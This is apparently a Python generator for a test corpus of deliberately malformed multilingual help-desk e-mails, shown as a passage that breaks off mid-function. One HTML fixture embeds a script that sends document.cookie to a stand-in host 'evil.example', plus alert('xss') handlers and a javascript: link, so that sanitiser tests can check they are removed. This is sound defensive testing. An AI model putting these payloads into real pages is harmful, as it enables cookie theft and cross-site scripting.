#!/usr/bin/env python3
"""Generate the hostile e-mail corpus in this folder, byte for byte.

Standard library only.  Every message is assembled from raw bytes by hand, so
nothing "repairs" the damage each file is meant to carry: wrong or missing
charset labels, broken headers, missing boundaries, bare LF line ends, ...
Dates, Message-IDs, boundaries and all content are fixed, so running the
script again writes identical bytes.

    python generate.py            write every .eml and expected.json here
    python generate.py --check    exit 1 if a file here differs from what
                                  the script would write (nothing is written)
    python generate.py --large PATH
                                  write large-attachment.eml (about 40 MB) to
                                  PATH; it is never committed, tests create it

See README.md for what is hostile about each file.
"""

from __future__ import annotations

import binascii
import io
import json
import random
import struct
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
HELP = "Polyglot Desk <help@example.org>"


# --------------------------------------------------------------------------
# byte-level helpers
# --------------------------------------------------------------------------


def crlf(data: bytes) -> bytes:
    """LF -> CRLF.  Input must use bare LF only."""
    assert b"\r" not in data
    return data.replace(b"\n", b"\r\n")


def enc(text: str, codec: str) -> bytes:
    """Encode text strictly (a character the codec lacks is a bug here)."""
    return text.encode(codec)


def qp(data: bytes) -> bytes:
    """Quoted-printable body, LF line ends (crlf() it afterwards)."""
    return binascii.b2a_qp(data, quotetabs=False, istext=True, header=False)


def b64(data: bytes, width: int = 76) -> bytes:
    """Base64 body in lines of `width`, LF line ends, final LF."""
    raw = binascii.b2a_base64(data, newline=False)
    return b"".join(raw[i : i + width] + b"\n" for i in range(0, len(raw), width))


_Q_SAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _q(data: bytes) -> str:
    out = []
    for byte in data:
        if byte == 0x20:
            out.append("_")
        elif byte in _Q_SAFE:
            out.append(chr(byte))
        else:
            out.append(f"={byte:02X}")
    return "".join(out)


def ew(text: str, charset: str, codec: str | None = None, q: bool = False) -> str:
    """RFC 2047 encoded-word(s) for `text`, folded (LF + space) when long.

    Split on character boundaries, each word encoded on its own (so an
    ISO-2022-JP word always ends back in ASCII), each word <= 75 chars.
    """
    codec = codec or charset
    words: list[str] = []
    chunk = ""
    for char in text:
        trial = chunk + char
        if len(_word(trial, charset, codec, q)) > 75 and chunk:
            words.append(_word(chunk, charset, codec, q))
            chunk = char
        else:
            chunk = trial
    if chunk:
        words.append(_word(chunk, charset, codec, q))
    return "\n ".join(words)


def _word(text: str, charset: str, codec: str, q: bool) -> str:
    data = enc(text, codec)
    if q:
        return f"=?{charset}?Q?{_q(data)}?="
    return f"=?{charset}?B?{binascii.b2a_base64(data, newline=False).decode()}?="


def headers(*pairs: tuple[str, str]) -> bytes:
    """Header block from (name, value) pairs, LF line ends, no blank line.

    Values are ASCII; a value may contain LF + whitespace (folding).
    """
    return "".join(f"{name}: {value}\n" for name, value in pairs).encode("ascii")


def message(head: bytes, body: bytes) -> bytes:
    """Headers + empty line + body, all CRLF."""
    return crlf(head + b"\n" + body)


# --------------------------------------------------------------------------
# small attachment payloads (made here, no third-party bytes)
# --------------------------------------------------------------------------


def tiny_pdf(line: str) -> bytes:
    """A minimal, valid one-page PDF showing one line of ASCII text."""
    content = b"BT /F1 14 Tf 72 770 Td (" + line.encode("ascii") + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n" % (len(objects) + 1) + b"0000000000 65535 f \n"
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def tiny_docx(paragraph: str) -> bytes:
    """A minimal .docx (stored, fixed timestamps: reproducible)."""
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>"
        ),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p></w:body></w:document>"
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, text in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 3, 4, 9, 0, 0))
            info.create_system = 0
            info.external_attr = 0
            archive.writestr(info, text.encode("utf-8"))
    return buffer.getvalue()


def _tnef_attribute(level: int, attribute: int, data: bytes) -> bytes:
    # level (1 message, 2 attachment), attribute id (type << 16 | id),
    # length, data, checksum = sum of data bytes mod 65536  [MS-OXTNEF 2.1.3]
    return (
        struct.pack("<BII", level, attribute, len(data))
        + data
        + struct.pack("<H", sum(data) & 0xFFFF)
    )


def _mapi_string8(prop_id: int, value: bytes) -> bytes:
    value += b"\x00"
    padded = value + b"\x00" * (-len(value) % 4)
    return struct.pack("<HHII", 0x001E, prop_id, 1, len(value)) + padded


def _mapi_long(prop_id: int, value: int) -> bytes:
    return struct.pack("<HHI", 0x0003, prop_id, value)


def winmail_dat() -> bytes:
    """A minimal but valid TNEF stream carrying one file, report.txt."""
    date = struct.pack("<7H", 2025, 3, 1, 16, 40, 0, 6)  # y m d h m s weekday
    report = crlf(
        enc(
            "Verslag inzamelactie zaterdag 1 maart 2025\n"
            "\n"
            "Opgehaald: 312 kilo voedsel, 41 tassen kleding.\n"
            "Vrijwilligers: 9.\n",
            "ascii",
        )
    )
    props = [
        _mapi_long(0x3705, 1),  # PR_ATTACH_METHOD = by value
        _mapi_string8(0x3707, b"report.txt"),  # PR_ATTACH_LONG_FILENAME
        _mapi_string8(0x3703, b".txt"),  # PR_ATTACH_EXTENSION
        _mapi_string8(0x370E, b"text/plain"),  # PR_ATTACH_MIME_TAG
        _mapi_long(0x370B, 0xFFFFFFFF),  # PR_RENDERING_POSITION
    ]
    out = struct.pack("<IH", 0x223E9F78, 0x4E2B)  # signature, key
    out += _tnef_attribute(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += _tnef_attribute(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    out += _tnef_attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\x00")  # attMessageClass
    out += _tnef_attribute(1, 0x00018004, b"Verslag van de inzamelactie\x00")  # attSubject
    out += _tnef_attribute(1, 0x00038005, date)  # attDateSent
    out += _tnef_attribute(
        2,
        0x00069002,  # attAttachRendData
        struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0xFFFF, 0xFFFF, 0),
    )
    out += _tnef_attribute(2, 0x00018010, b"report.txt\x00")  # attAttachTitle
    out += _tnef_attribute(2, 0x00038013, date)  # attAttachModifyDate
    out += _tnef_attribute(2, 0x0006800F, report)  # attAttachData
    out += _tnef_attribute(
        2,
        0x00069005,  # attAttachment
        struct.pack("<I", len(props)) + b"".join(props),
    )
    return out


# --------------------------------------------------------------------------
# the messages: each returns (raw bytes, expected facts)
# --------------------------------------------------------------------------


def facts(
    from_email,
    subject,
    text_contains,
    attachments=(),
    automatic=False,
    bounce=False,
    has_message_id=True,
    bounced_message_id=None,
    **extra,
):
    out = {
        "from_email": from_email,
        "subject": subject,
        "text_contains": list(text_contains),
        "attachments": list(attachments),
        "automatic": automatic,
        "bounce": bounce,
        "has_message_id": has_message_id,
        "bounced_message_id": bounced_message_id,
    }
    out.update(extra)
    return out


def charset_koi8r():
    subject = "Вопрос о регистрации волонтёров"
    body = (
        "Здравствуйте!\n"
        "\n"
        "Я хотел бы стать волонтёром в вашей организации, но не могу завершить "
        "регистрацию на сайте.\n"
        "После ввода номера телефона страница просто обновляется, и ничего не "
        "происходит.\n"
        "Подскажите, пожалуйста, что мне делать? Я пробовал разные браузеры, но "
        "результат одинаковый.\n"
        "\n"
        "С уважением,\n"
        "Иван Петров\n"
    )
    head = headers(
        ("From", ew("Иван Петров", "koi8-r") + " <ivan.petrov@example.ru>"),
        ("To", HELP),
        ("Subject", ew(subject, "koi8-r")),
        ("Date", "Tue, 04 Mar 2025 09:12:44 +0300"),
        ("Message-ID", "<20250304091244.7731@mail.example.ru>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=koi8-r"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(body, "koi8_r")), facts(
        "ivan.petrov@example.ru", subject, ["стать волонтёром", "не могу завершить регистрацию"]
    )


def charset_koi8r_mislabeled():
    subject = "Не пришло письмо с подтверждением"
    body = (
        "Добрый день!\n"
        "\n"
        "Вчера я записалась на субботнюю раздачу продуктов, но письмо с "
        "подтверждением так и не пришло.\n"
        "Я проверила папку со спамом, там его тоже нет. Можно ли проверить, "
        "сохранилась ли моя заявка?\n"
        "Мой номер телефона указан в анкете, можно позвонить в любое время "
        "после обеда.\n"
        "\n"
        "Спасибо заранее,\n"
        "Ольга Смирнова\n"
    )
    head = headers(
        ("From", ew("Ольга Смирнова", "utf-8") + " <olga.smirnova@example.ru>"),
        ("To", HELP),
        ("Subject", ew(subject, "utf-8")),
        ("Date", "Tue, 04 Mar 2025 13:40:02 +0300"),
        ("Message-ID", "<a41f0c2e-5d1b-4c7e-9f0a-koi8lie@example.ru>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=utf-8; format=flowed"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(body, "koi8_r")), facts(
        "olga.smirnova@example.ru",
        subject,
        ["письмо с подтверждением", "субботнюю раздачу продуктов"],
    )


def charset_iso2022jp():
    subject = "ボランティア登録について"
    body = (
        "ヘルプデスク御中\n"
        "\n"
        "お世話になっております。田中と申します。\n"
        "先週ボランティアの登録フォームを送信しましたが、まだ確認のメールが届いておりません。\n"
        "お手数ですが、登録状況を確認していただけますでしょうか。\n"
        "よろしくお願いいたします。\n"
        "\n"
        "田中 由紀\n"
    )
    head = headers(
        ("From", ew("田中 由紀", "ISO-2022-JP", "iso2022_jp") + " <tanaka.yuki@example.jp>"),
        ("To", HELP),
        ("Subject", ew(subject, "ISO-2022-JP", "iso2022_jp")),
        ("Date", "Wed, 05 Mar 2025 08:03:10 +0900"),
        ("Message-ID", "<200503050803.JAA01234@mx.example.jp>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=ISO-2022-JP"),
        ("Content-Transfer-Encoding", "7bit"),
        ("X-Mailer", "Becky! ver. 2.75.01"),
    )
    data = enc(body, "iso2022_jp")
    assert max(data) < 0x80
    return message(head, data), facts(
        "tanaka.yuki@example.jp", subject, ["ボランティアの登録フォーム", "確認のメール"]
    )


def charset_shiftjis():
    subject = "寄付金の領収書について"
    # 能 (0x94 0x5C), 申 (0x90 0x5C), 表 (0x95 0x5C), ソ (0x83 0x5C): a
    # backslash as second byte trips byte-oriented code.
    body = (
        "ご担当者様\n"
        "\n"
        "昨年十二月に寄付をした佐藤です。\n"
        "確定申告のために寄付金の領収書が必要なのですが、まだ受け取っておりません。\n"
        "郵送またはメールで再発行していただくことは可能でしょうか。\n"
        "住所は申込書に記入したものから変わっておりません。表記はソフトで確認しました。\n"
        "ご確認のほど、よろしくお願い申し上げます。\n"
        "\n"
        "佐藤 健二\n"
    )
    head = headers(
        ("From", "Sato Kenji <k.sato@example.jp>"),
        ("To", HELP),
        ("Subject", ew(subject, "shift_jis")),
        ("Date", "Wed, 05 Mar 2025 21:15:33 +0900"),
        ("Message-ID", "<5f3c9a10b7.sjis@example.jp>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=shift_jis"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    data = enc(body, "shift_jis")
    assert b"\\" in data
    return message(head, data), facts(
        "k.sato@example.jp", subject, ["寄付金の領収書", "再発行していただくことは可能でしょうか"]
    )


def charset_gb2312():
    subject = "关于志愿者培训时间的咨询"
    body = (
        "您好！\n"
        "\n"
        "我是上个月报名的志愿者李明。请问下一次志愿者培训是什么时候？\n"
        "我工作日要上班，只能参加周末的培训。如果有线上课程，也请告诉我。\n"
        "\n"
        "谢谢！\n"
        "李明\n"
    )
    head = headers(
        ("From", ew("李明", "gb2312") + " <li.ming@example.cn>"),
        ("To", HELP),
        ("Subject", ew(subject, "gb2312")),
        ("Date", "Thu, 06 Mar 2025 10:21:07 +0800"),
        ("Message-ID", "<202503061021071234567@example.cn>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="gb2312"'),
        ("Content-Transfer-Encoding", "base64"),
        ("X-Mailer", "Foxmail 7.2.25.375[cn]"),
    )
    return message(head, b64(crlf(enc(body, "gb2312")))), facts(
        "li.ming@example.cn", subject, ["志愿者培训", "只能参加周末的培训"]
    )


def charset_big5():
    subject = "捐款收據地址變更"
    # 許 and 功 have 0x5C as second byte; QP leaves it as a literal backslash.
    body = (
        "您好：\n"
        "\n"
        "我是每月定期捐款的陳美玲。我最近搬家了，請將之後的捐款收據寄到新的地址。\n"
        "新地址是台北市大安區復興南路一段一百號五樓。請問還需要提供其他資料嗎？\n"
        "如果需要我簽名許可，或是在網站上用線上功能修改，也請告訴我。\n"
        "\n"
        "謝謝您的協助。\n"
        "陳美玲\n"
    )
    head = headers(
        ("From", ew("陳美玲", "big5") + " <chen.meiling@example.tw>"),
        ("To", HELP),
        ("Subject", ew(subject, "big5")),
        ("Date", "Thu, 06 Mar 2025 15:48:29 +0800"),
        ("Message-ID", "<000c01db8e6f$3a1b2c40$ae5f84c0$@example.tw>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="big5"'),
        ("Content-Transfer-Encoding", "quoted-printable"),
    )
    data = enc(body, "big5")
    assert b"\\" in data
    return message(head, qp(data)), facts(
        "chen.meiling@example.tw", subject, ["捐款收據", "新的地址"]
    )


def charset_windows1256():
    subject = "استفسار عن مواعيد توزيع المساعدات"
    body = (
        "السلام عليكم،\n"
        "\n"
        "أود أن أسأل عن مواعيد توزيع المساعدات الغذائية في الشهر القادم.\n"
        "لقد سجلت اسمي في القائمة منذ أسبوعين ولم أتلق أي رد حتى الآن.\n"
        "هل يمكنكم إخباري بالمستندات المطلوبة؟\n"
        "\n"
        "مع الشكر والتقدير،\n"
        "أحمد خليل\n"
    )
    head = headers(
        ("From", ew("أحمد خليل", "windows-1256", "cp1256") + " <ahmad.khalil@example.com>"),
        ("To", HELP),
        ("Subject", ew(subject, "windows-1256", "cp1256")),
        ("Date", "Fri, 07 Mar 2025 11:02:55 +0200"),
        ("Message-ID", "<CAK7c1256-ar-0307@mail.example.com>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="windows-1256"'),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(body, "cp1256")), facts(
        "ahmad.khalil@example.com", subject, ["توزيع المساعدات", "المستندات المطلوبة"]
    )


def charset_latin1_as_utf8():
    subject = "Problème avec mon reçu fiscal"
    body = (
        "Bonjour,\n"
        "\n"
        "J'ai fait un don à votre association le 12 février, mais je n'ai toujours "
        "pas reçu mon reçu fiscal.\n"
        "Pourriez-vous vérifier si mon adresse électronique est bien enregistrée ? "
        "Je préfère recevoir le document par courrier si c'est possible, car "
        "j'ai déjà eu un problème avec ma boîte mail l'année dernière.\n"
        "\n"
        "Très cordialement,\n"
        "Sophie Martin\n"
    )
    head = headers(
        ("From", "Sophie Martin <sophie.martin@example.fr>"),
        ("To", HELP),
        ("Subject", ew(subject, "utf-8", q=True)),
        ("Date", "Fri, 07 Mar 2025 17:25:41 +0100"),
        ("Message-ID", "<3b7e11f2-latin1-lie@example.fr>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=utf-8"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(body, "iso-8859-1")), facts(
        "sophie.martin@example.fr",
        subject,
        ["pas reçu mon reçu fiscal", "un don à votre association", "Très cordialement"],
    )


def charset_missing():
    subject = "Frage zur Spendenbescheinigung für 2024"
    body = (
        "Sehr geehrte Damen und Herren,\n"
        "\n"
        "ich habe im Dezember für Ihre Lebensmittelausgabe gespendet und benötige "
        "eine Spendenbescheinigung für das Finanzamt.\n"
        "Meine Adresse hat sich geändert: Hauptstraße 12, 50667 Köln.\n"
        "Könnten Sie die Bescheinigung bitte an die neue Anschrift schicken?\n"
        "\n"
        "Mit freundlichen Grüßen\n"
        "Jürgen Müller\n"
    )
    head = headers(
        ("From", ew("Jürgen Müller", "utf-8", q=True) + " <j.mueller@example.de>"),
        ("To", HELP),
        ("Subject", ew(subject, "utf-8", q=True)),
        ("Date", "Sat, 08 Mar 2025 10:00:00 +0100"),
        ("Message-ID", "<nocharset.20250308100000@example.de>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain"),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(body, "utf-8")), facts(
        "j.mueller@example.de",
        subject,
        ["Spendenbescheinigung für das Finanzamt", "Hauptstraße 12, 50667 Köln", "Grüßen"],
    )


def charset_unknown_name():
    subject = "¿Puedo cambiar mi turno del sábado?"
    body = (
        "Hola:\n"
        "\n"
        "Estoy inscrita como voluntaria en el turno del sábado por la mañana, pero "
        "esta semana tengo una cita médica.\n"
        "¿Sería posible cambiarme al turno del domingo? Avísenme si necesitan que "
        "busque a alguien para sustituirme.\n"
        "\n"
        "Muchas gracias,\n"
        "Lucía Fernández\n"
    )
    head = headers(
        ("From", ew("Lucía Fernández", "utf-8", q=True) + " <lucia.fernandez@example.es>"),
        ("To", HELP),
        ("Subject", ew(subject, "utf-8", q=True)),
        ("Date", "Sat, 08 Mar 2025 19:33:12 +0100"),
        ("Message-ID", "<unknown8bit.4471@example.es>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="x-unknown-8bit"'),
        ("Content-Transfer-Encoding", "8bit"),
    )
    return message(head, enc(body, "utf-8")), facts(
        "lucia.fernandez@example.es",
        subject,
        ["turno del sábado por la mañana", "¿Sería posible cambiarme al turno del domingo?"],
    )


def html_only():
    subject = "Dúvida sobre a doação de roupas"
    html = (
        "<!DOCTYPE html>\n"
        '<html><head><meta charset="utf-8"><title>Doação</title>\n'
        "<style>body { font-family: Arial, sans-serif; } "
        'p.aviso::after { content: "texto escondido no estilo"; }</style>\n'
        '<script>var segredo = "não mostrar este script"; '
        'new Image().src = "https://evil.example/steal?c=" + document.cookie;</script>\n'
        "</head>\n"
        "<body onload=\"alert('xss')\">\n"
        '<p class="aviso" onclick="alert(\'xss\')">Bom dia,</p>\n'
        "<p>Gostaria de saber se vocês aceitam doações de roupas de inverno para "
        "crianças. Tenho duas caixas com casacos e botas em bom estado.</p>\n"
        "<p>Posso entregá-las na sede na próxima terça-feira? Vi o horário de "
        'funcionamento no <a href="https://www.example.org/horarios">site de '
        "vocês</a>, mas não tenho certeza.</p>\n"
        '<p><a href="javascript:alert(document.cookie)">Clique aqui para '
        "confirmar</a></p>\n"
        "<p>Obrigado,<br>João Silva</p>\n"
        '<img src="https://tracker.example/p.gif" width="1" height="1" alt="">\n'
        "</body></html>\n"
    )
    head = headers(
        ("From", ew("João Silva", "utf-8", q=True) + " <joao.silva@example.pt>"),
        ("To", HELP),
        ("Subject", ew(subject, "utf-8", q=True)),
        ("Date", "Sun, 09 Mar 2025 12:07:45 +0000"),
        ("Message-ID", "<html-only.98d2@example.pt>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/html; charset="utf-8"'),
        ("Content-Transfer-Encoding", "quoted-printable"),
    )
    return message(head, qp(enc(html, "utf-8"))), facts(
        "joao.silva@example.pt",
        subject,
        ["doações de roupas de inverno", "próxima terça-feira"],
        text_not_contains=[
            "não mostrar este script",
            "document.cookie",
            "font-family",
            "texto escondido no estilo",
        ],
        html_not_contains=[
            "<script",
            "onclick",
            "onload",
            "javascript:",
            'src="https://tracker.example',
        ],
        html_contains=["https://www.example.org/horarios"],
    )


def html_alternative():
    subject = "Volunteer shift on Saturday"
    text = (
        "Hi there,\n"
        "\n"
        "I signed up for the Saturday morning shift at the food bank, but I have "
        "not received any details about where to meet.\n"
        "Could you tell me the address and what time I should arrive? I can also "
        "bring two friends if you need extra hands.\n"
        "\n"
        "Thanks,\n"
        "Emily\n"
    )
    html = (
        "<html><body>\n"
        "<div>Hi there,</div><div><br></div>\n"
        "<div>I signed up for the <b>Saturday morning shift</b> at the food bank, "
        "but I have not received any details about where to meet.</div>\n"
        "<div>Could you tell me the address and what time I should arrive? I can "
        "also bring two friends if you need extra hands.</div><div><br></div>\n"
        "<div>Thanks,<br>Emily</div>\n"
        "</body></html>\n"
    )
    boundary = "000000000000a1b2c3d4e5f60718"
    head = headers(
        ("From", "Emily Carter <emily.carter@example.co.uk>"),
        ("To", HELP),
        ("Subject", subject),
        ("Date", "Sun, 09 Mar 2025 18:44:02 +0000"),
        ("Message-ID", "<CAF+alt=Q1w2E3r4T5y6U7i8O9p0@mail.example.co.uk>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/alternative; boundary="{boundary}"'),
    )
    body = (
        f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'text/plain; charset="UTF-8"'), ("Content-Transfer-Encoding", "7bit")
        )
        + b"\n"
        + enc(text, "ascii")
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'text/html; charset="UTF-8"'), ("Content-Transfer-Encoding", "7bit")
        )
        + b"\n"
        + enc(html, "ascii")
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "emily.carter@example.co.uk", subject, ["Saturday morning shift", "where to meet"]
    )


def rfc2231_filename():
    subject = "Fahrtkostenerstattung März"
    text = (
        "Hallo zusammen,\n"
        "\n"
        "anbei sende ich Ihnen meine Fahrtkostenabrechnung für die Einsätze im März.\n"
        "Ich bin insgesamt 240 Kilometer mit dem eigenen Auto gefahren. Bitte "
        "überweisen Sie den Betrag auf das bekannte Konto.\n"
        "\n"
        "Viele Grüße\n"
        "Katrin Schulz\n"
    )
    filename = "Fahrtkostenerstattung März 2025.pdf"
    boundary = "------------0CA1F2E3D4B5A69788796A5B"
    pdf = tiny_pdf("Fahrtkostenerstattung Maerz 2025: 240 km x 0,30 EUR = 72,00 EUR")
    head = headers(
        ("From", "Katrin Schulz <katrin.schulz@example.de>"),
        ("To", HELP),
        ("Subject", ew(subject, "UTF-8", q=True)),
        ("Date", "Mon, 10 Mar 2025 08:30:00 +0100"),
        ("Message-ID", "<6a0d2c55-rfc2231@example.de>"),
        ("MIME-Version", "1.0"),
        ("User-Agent", "Mozilla Thunderbird"),
        ("Content-Language", "de-DE"),
        ("Content-Type", f'multipart/mixed; boundary="{boundary}"'),
    )
    # Thunderbird style: RFC 2231 with charset, percent-encoding and a
    # continuation that splits the name in the middle (and no plain fallback).
    body = (
        b"This is a multi-part message in MIME format.\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", "text/plain; charset=UTF-8; format=flowed"),
            ("Content-Transfer-Encoding", "8bit"),
        )
        + b"\n"
        + enc(text, "utf-8")
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            (
                "Content-Type",
                "application/pdf;\n"
                " name*0*=UTF-8''Fahrtkostenerstattung%20M%C3%A4rz;\n"
                " name*1*=%202025.pdf",
            ),
            (
                "Content-Disposition",
                "attachment;\n"
                " filename*0*=UTF-8''Fahrtkostenerstattung%20M%C3%A4rz;\n"
                " filename*1*=%202025.pdf",
            ),
            ("Content-Transfer-Encoding", "base64"),
        )
        + b"\n"
        + b64(pdf)
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "katrin.schulz@example.de",
        subject,
        ["Fahrtkostenabrechnung für die Einsätze im März", "240 Kilometer"],
        [filename],
    )


def rfc2047_filename():
    subject = "Заявление на волонтёрство"
    text = (
        "Здравствуйте!\n"
        "\n"
        "Во вложении моё заявление волонтёра, заполненное и подписанное.\n"
        "Я могу помогать по вторникам и четвергам после шести вечера. Сообщите, "
        "пожалуйста, если нужны ещё какие-нибудь документы.\n"
        "\n"
        "С уважением,\n"
        "Анна Кузнецова\n"
    )
    filename = "Заявление волонтёра.docx"
    # Outlook: the name as RFC 2047 encoded-words inside a quoted string
    # (not allowed by RFC 2047 section 5, sent anyway), split over two words.
    encoded_name = ew("Заявление волонтёра", "utf-8") + "\n " + ew(".docx", "utf-8")
    boundary = "_004_AM6PR07MB5623A1B2C3D4E5F6A7B8C9D0AM6PR07MB5623eurp_"
    docx = tiny_docx("Заявление волонтёра: Анна Кузнецова, вторник и четверг после 18:00.")
    head = headers(
        ("From", ew("Анна Кузнецова", "utf-8") + " <anna.kuznetsova@example.ru>"),
        ("To", HELP),
        ("Subject", ew(subject, "utf-8")),
        ("Thread-Topic", ew(subject, "utf-8")),
        ("Date", "Mon, 10 Mar 2025 14:05:19 +0000"),
        (
            "Message-ID",
            "<AM6PR07MB5623A1B2C3D4E5F6A7B8C9D0@AM6PR07MB5623.eurprd07.prod.example.com>",
        ),
        ("Accept-Language", "ru-RU, en-US"),
        ("Content-Language", "ru-RU"),
        ("X-MS-Has-Attach", "yes"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{boundary}"'),
    )
    body = (
        f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'text/plain; charset="utf-8"'), ("Content-Transfer-Encoding", "base64")
        )
        + b"\n"
        + b64(crlf(enc(text, "utf-8")))
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            (
                "Content-Type",
                "application/vnd.openxmlformats-officedocument."
                'wordprocessingml.document;\n\tname="' + encoded_name + '"',
            ),
            ("Content-Description", encoded_name),
            (
                "Content-Disposition",
                'attachment;\n\tfilename="'
                + encoded_name
                + f'"; size={len(docx)};\n\tcreation-date="Mon, 10 Mar 2025 14:04:00 GMT";'
                '\n\tmodification-date="Mon, 10 Mar 2025 14:05:00 GMT"',
            ),
            ("Content-Transfer-Encoding", "base64"),
        )
        + b"\n"
        + b64(docx)
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "anna.kuznetsova@example.ru",
        subject,
        ["заявление волонтёра", "по вторникам и четвергам"],
        [filename],
    )


def tnef_winmail():
    subject = "Verslag van de inzamelactie"
    text = (
        "Beste helpdesk,\n"
        "\n"
        "In de bijlage vindt u het verslag van de inzamelactie van afgelopen zaterdag.\n"
        "We hebben in totaal 312 kilo voedsel opgehaald. Laat u mij weten of u nog "
        "vragen heeft?\n"
        "\n"
        "Met vriendelijke groet,\n"
        "Pieter de Vries\n"
    )
    boundary = "_000_DB7PR02MB4411C0FFEE0123456789ABCDDB7PR02MB4411eurp_"
    outlook_id = "<DB7PR02MB4411C0FFEE0123456789ABCD@DB7PR02MB4411.eurprd02.prod.example.com>"
    head = headers(
        ("From", "Pieter de Vries <p.devries@example.nl>"),
        ("To", HELP),
        ("Subject", subject),
        ("Thread-Topic", subject),
        ("Thread-Index", "AdtQx1+3aBcDeFgHiJkLmNoPqRsTuA=="),
        ("Date", "Sat, 01 Mar 2025 16:41:07 +0000"),
        ("Message-ID", outlook_id),
        ("Content-Language", "nl-NL"),
        ("X-MS-Has-Attach", "yes"),
        ("X-MS-TNEF-Correlator", outlook_id),
        ("X-Mailer", "Microsoft Outlook 16.0"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{boundary}"'),
    )
    body = (
        f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'text/plain; charset="us-ascii"'),
            ("Content-Transfer-Encoding", "quoted-printable"),
        )
        + b"\n"
        + qp(enc(text, "ascii"))
        + b"\n"
        + f"--{boundary}\n".encode()
        + headers(
            ("Content-Type", 'application/ms-tnef; name="winmail.dat"'),
            ("Content-Disposition", 'attachment; filename="winmail.dat"'),
            ("Content-Transfer-Encoding", "base64"),
        )
        + b"\n"
        + b64(winmail_dat())
        + b"\n"
        + f"--{boundary}--\n".encode()
    )
    return message(head, body), facts(
        "p.devries@example.nl",
        subject,
        ["verslag van de inzamelactie", "312 kilo voedsel"],
        ["winmail.dat"],
        tnef_contains=["report.txt"],
    )


_INNER_FR = (
    "Bonjour,\n"
    "\n"
    "Je voudrais m'inscrire à l'atelier de couture de samedi prochain. Est-ce "
    "qu'il reste des places ?\n"
    "Je peux apporter ma propre machine à coudre si besoin.\n"
    "\n"
    "Merci beaucoup,\n"
    "Claire Dubois\n"
)


def nested_rfc822():
    inner_subject = "Inscription à l'atelier de samedi"
    subject = "Fwd: " + inner_subject
    note = (
        "Hi,\n"
        "\n"
